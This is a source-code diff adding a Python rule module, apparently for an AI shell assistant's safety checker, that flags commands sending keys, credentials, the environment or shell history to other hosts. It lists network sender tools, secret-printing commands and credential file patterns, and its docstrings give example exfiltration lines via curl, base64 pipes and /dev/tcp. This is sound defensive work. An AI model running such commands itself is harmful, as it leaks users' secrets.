@@ -1,0 +1,167 @@
+"""Effect: sensitive data flows out to the network.  Private keys, cloud credentials,
+password stores, ``/etc/shadow``, the environment or the shell history, sent by ``curl -F
+@file``/``-d @-``/``-T``, ``wget --post-file``, ``nc``, ``/dev/tcp``, ``scp`` to another host,
+pastebins — directly, from a substitution, or through encoders and pipes (``tar … | base64
+| curl -d @-``).
+
+Keys and credentials are high; the environment and history (which usually hold tokens)
+are medium; a public key or an ordinary file is nothing.
+"""
+from __future__ import annotations
+
+import re
+from typing import Optional
+
+from aish.safety.rules.common import HIGH, MEDIUM, Ctx, fragment, target
+from aish.safety.shell_words import Word
+
+# Programs that send what they read on stdin to the network.
+_STDIN_SENDERS = {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "pastebinit", "termbin", "sendmail", "mail",
+                  "mailx", "s-nail", "mutt", "wormhole", "croc", "ffsend", "nc.traditional", "nc.openbsd"}
+# Programs that send files named on their line to the network.
+_SENDERS = {"curl", "wget", "http", "https", "xh", "httpie", "curlie", "scp", "sftp", "rsync", "rclone", "aws",
+            "gsutil", "gh", "ssh", "ftp", "lftp", "tftp", "smbclient", "invoke-restmethod", "invoke-webrequest",
+            "irm", "iwr", "transfer", "ffsend", "croc", "wormhole", "mail", "mailx", "mutt"} | _STDIN_SENDERS
+# Commands whose output is secret.
+_SECRET_OUTPUT = re.compile(
+    r"^(env|printenv|set|export\s+-p|declare\s+-x|history|fc\s+-l|gpg\s+.*--export-secret|"
+    r"aws\s+configure\s+(export-credentials|get)|aws\s+sts\s+get-session-token|gcloud\s+auth\s+.*print-\w*token|"
+    r"az\s+account\s+get-access-token|kubectl\s+config\s+view\s+.*--raw|kubectl\s+get\s+secrets?\b.*-o|"
+    r"security\s+(find-generic-password|find-internet-password|dump-keychain)|pass\s+(show\s+)?\S|"
+    r"vault\s+(kv\s+get|read)|op\s+(read|item\s+get)|gh\s+auth\s+token|cat\s+/proc/\d+/environ|"
+    r"doppler\s+secrets|heroku\s+config|keepassxc-cli\s+(show|export)|bw\s+(get|export))\b")
+_ENV_LIKE = re.compile(r"^(env|printenv|set|export|declare|history|fc)\b")
+_SECRET_NAME = re.compile(r"(^|/)(id_(rsa|dsa|ecdsa|ed25519)(_sk)?|[\w.-]*\.(pem|key|p12|pfx|kdbx|keystore|jks)|"
+                          r"\.env(\.\w+)?|credentials(\.json)?|secrets?\.(ya?ml|json|toml)|\.netrc|\.pgpass|"
+                          r"\.git-credentials|shadow|gshadow|\.vault-token|service-account\w*\.json)$")
+
+
+def _secret_path(w: Word) -> str:
+    """'high' for keys and credentials, 'medium' for history, '' for anything else."""
+    text = w.text
+    if text.endswith(".pub"):
+        return ""
+    t = target(w)
+    path = t.path or text
+    if re.search(r"(^|/)\.env(\.\w+)?$", path):
+        return "medium"
+    if t.kind in ("dot-critical", "home", "root", "userhome") or _SECRET_NAME.search(path) or \
+            path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers") or re.match(r"^/etc/ssh/ssh_host_\w+_key$", path):
+        return "high"
+    if t.kind == "history":
+        return "medium"
+    return ""
+
+
+def _worse(a: str, b: str) -> str:
+    return "high" if "high" in (a, b) else "medium" if "medium" in (a, b) else ""
+
+
+def _segment_reads_secret(seg) -> str:
+    """Does this segment of a pipe print something secret (a key file, the environment...)?"""
+    words = seg.words
+    if not words:
+        return ""
+    line = " ".join(w.text for w in words)
+    line = re.sub(r"^(sudo|doas)\s+(-\S+\s+)*", "", line)
+    found = ""
+    if _SECRET_OUTPUT.match(line):
+        found = "medium" if _ENV_LIKE.match(line) else "high"
+    for w in words[1:]:
+        if not w.text.startswith("-"):
+            found = _worse(found, _secret_path(w))
+    for red in seg.redirects:
+        if red.op == "<" and red.target is not None:
+            found = _worse(found, _secret_path(red.target))
+    return found
+
+
+def _in_substitutions(words: list) -> str:
+    found = ""
+    for w in words:
+        for sub in w.subs:
+            sub = sub.strip()
+            if _SECRET_OUTPUT.match(sub):
+                found = _worse(found, "medium" if _ENV_LIKE.match(sub) else "high")
+            for part in re.findall(r"(?:^|\s)([~/$][^\s|;&)]+)", sub):
+                found = _worse(found, _secret_path(Word(part, part, has_var="$" in part)))
+    return found
+
+
+def _named_files(c: Ctx) -> list:
+    """The files a sender's own line uploads (``-F f=@x``, ``-d @x``, ``-T x``, ``--post-file=x``...)."""
+    texts = c.texts
+    files = []
+    for k, t in enumerate(texts):
+        nxt = texts[k + 1] if k + 1 < len(texts) else ""
+        if t in ("-F", "--form", "-d", "--data", "--data-binary", "--data-urlencode", "--json") and nxt:
+            m = re.search(r"[@<]([^;,]+)", nxt)
+            if m:
+                files.append(m.group(1))
+        elif t in ("-T", "--upload-file", "-InFile", "-infile", "--body-file", "--post-file") and nxt:
+            files.append(nxt)
+        elif t.startswith(("--post-file=", "--body-file=", "--upload-file=")):
+            files.append(t.split("=", 1)[1])
+        elif c.prog in ("http", "https", "xh", "httpie") and re.match(r"^[\w-]*@[^@]+$", t) and "://" not in t:
+            files.append(t.split("@", 1)[1])
+    if c.prog in ("scp", "rsync", "sftp", "rclone", "aws", "gsutil", "smbclient") and any(
+            re.match(r"^([\w.-]+@)?[\w.-]+:(?!//)|^s3://|^gs://|^\w+:", t) for t in texts[1:]):
+        files += [t for t in texts if not t.startswith("-") and not re.match(r"^([\w.-]+@)?[\w.-]+:|^\w+://", t)
+                  and t not in ("cp", "sync", "copy", "copyto", "s3", "mv", "move")]
+    if c.prog in ("gh",) and texts[:2] == ["gist", "create"]:
+        files += [t for t in texts[2:] if not t.startswith("-")]
+    if c.prog in ("mail", "mailx", "mutt", "s-nail") and "-a" in texts:
+        files.append(texts[texts.index("-a") + 1] if texts.index("-a") + 1 < len(texts) else "")
+    return [f for f in files if f and f != "-"]
+
+
+def _reads_stdin(c: Ctx) -> bool:
+    texts = c.texts
+    if c.prog in _STDIN_SENDERS:
+        return True
+    if c.prog in ("curl", "curlie"):
+        return any(t in ("@-", "-") or t.endswith(("=@-", "=<-", "@-")) or t == "." for t in texts)
+    if c.prog == "wget":
+        return any(t in ("--post-file=/dev/stdin", "--body-file=/dev/stdin") for t in texts)
+    if c.prog in ("http", "https", "xh", "httpie"):
+        return "--ignore-stdin" not in texts
+    if c.prog == "ssh":
+        return True
+    if c.prog in ("aws", "gsutil", "rclone"):
+        return "-" in texts or "rcat" in texts
+    return False
+
+
+def rule_exfiltration(c: Ctx) -> Optional[tuple]:
+    """A network sender whose payload is secret: named on its line, redirected in, or piped in."""
+    if c.prog.lower() not in _SENDERS:
+        return None
+    found = _in_substitutions(c.args)
+    for name in _named_files(c):
+        found = _worse(found, _secret_path(Word(name, name, has_var="$" in name)))
+    for red in c.seg.redirects:
+        if red.op == "<" and red.target is not None:
+            found = _worse(found, _secret_path(red.target))
+    if _reads_stdin(c) and c.chain:
+        for feeder in c.chain:
+            found = _worse(found, _segment_reads_secret(feeder))
+    if not found:
+        return None
+    level = HIGH if found == "high" else MEDIUM
+    what = "keys or credentials" if found == "high" else "the environment, history or secrets"
+    return level, f"sends {what} to another machine ({fragment([w.raw for w in c.words])})"
+
+
+def rule_tcp_redirect(seg) -> Optional[tuple]:
+    """``cat ~/.ssh/id_rsa > /dev/tcp/host/port``: bash opens a connection and writes to it."""
+    if not any(r.target is not None and re.match(r"^/dev/(tcp|udp)/", r.target.text) and ">" in r.op
+               for r in seg.redirects):
+        return None
+    found = _segment_reads_secret(seg)
+    if not found:
+        return None
+    return (HIGH if found == "high" else MEDIUM,
+            f"sends {'keys or credentials' if found == 'high' else 'secrets'} to another machine over /dev/tcp")
+
+
+RULES: dict = {p: [rule_exfiltration] for p in _SENDERS}
